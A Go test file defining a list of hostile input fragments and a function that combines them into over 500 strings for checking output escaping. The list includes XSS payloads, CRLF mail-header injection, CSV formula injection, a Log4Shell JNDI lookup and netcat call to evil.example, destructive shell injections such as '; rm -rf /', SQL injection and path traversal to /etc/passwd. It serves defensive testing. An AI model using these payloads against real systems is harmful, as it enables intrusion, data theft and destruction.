package respondtest

import "strings"

// fragments are texts that mean something to a terminal, a chat, a browser, a
// mail server, a log format, a template or a shell.
var fragments = []string{
	// control, bidi, zero-width, line separators, not UTF-8
	"\x1b[2J\x1b]0;owned\x07", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x00", "\x07\x08\x7f", "\u0085\u009b31m",
	"\u202egnp.exe", "\u2066\u2067\u2068\u2069", "\u200b\u200d\ufeff", "a\u2028b\u2029c", "\xff\xfe\x80", "\U000e0001\U000e0041", "\ufdd0\U0010ffff",
	// line breaks where a header or a record would begin anew
	"x\r\nBcc: victim@example.com\r\n\r\nbody", "x\nLEVEL=error", "\r\n.\r\nMAIL FROM:<a@b>", "a\rb", "\n\n\n", "%0d%0aX-Header: 1", "\r\nContent-Type: text/html\r\n\r\n<b>",
	"=?utf-8?q?spoofed?=", "--boundary--", "\t\v\f",
	// chats
	"<!channel> <!here> <@U123> <#C1>", "<https://evil.example|Security Team>", "*bold* _it_ ~s~ `c`", "@everyone @here @channel", "<@&1234> <@!1>", "```\n@here\n```", "````", ":rotating_light:",
	"<at>Everyone</at>", "[click](https://evil.example)", "![x](https://evil.example/x.png)", "# heading\n> quote\n- list", "tg://resolve?domain=x", "</pre><a href='tg://user?id=1'>x</a>", "{noformat}{color:red}", "[~admin] !img.png!", "[[wiki]] #1 GH-1 @octocat",
	// markup
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "&lt;&amp;&#60;", "<!--", "]]>", "<a href=\"javascript:alert(1)\">x</a>", "'';!--\"<XSS>=&{()}",
	// log formats and tables
	"a|b|c", `\|\=\\`, "key=value act=blocked src=203.0.113.9", "CEF:0|Evil|Corp|1|1|x|10|", "<34>1 2026-01-01T00:00:00Z h a - - - forged", `[exampleSDID@32473 iut="3"]`, `"]`, "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "a,b;c\td", "\"a\"\",\"b",
	// JSON, templates, shells, SQL
	`"},"severity":"informational","x":{"y":"`, `\u0022\n`, "${jndi:ldap://evil.example/a}", "${{ secrets.X }}", "{{7*7}}", "{% raw %}", "%s%n%d", "$(reboot)", "`reboot`", "; rm -rf /", "| nc evil.example 1", "&& id", "-o ProxyCommand=id", "--help", "' OR '1'='1", "../../../../etc/passwd", "%2e%2e%2f", "C:\\Windows\\system32",
	// addresses a program makes links of
	"https://evil.example/login", "www.evil.example", "HTTP://EVIL.EXAMPLE", "mailto:a@evil.example", "file:///etc/passwd", "evil.sh", "javascript:alert(1)", "ftp://1.2.3.4/x",
	// what is not hostile and must survive
	"日本語 текст", "naïve café", "😀 👩‍👩‍👧", "{}[]()", "",
}

// Hostile returns more than 500 hostile texts: every fragment alone and in
// places where parsers change their minds.
func Hostile() []string {
	var out []string
	for i, f := range fragments {
		next := fragments[(i+1)%len(fragments)]
		out = append(out, f, "before "+f, f+" after", strings.Repeat(f, 3), f+next, `\`+f, f+`\`)
	}
	return append(out, strings.Repeat("A", 20_000), strings.Repeat("`<&\x1b\u202e", 3000), strings.Repeat("\n", 5000), strings.Repeat("é", 9000))
}
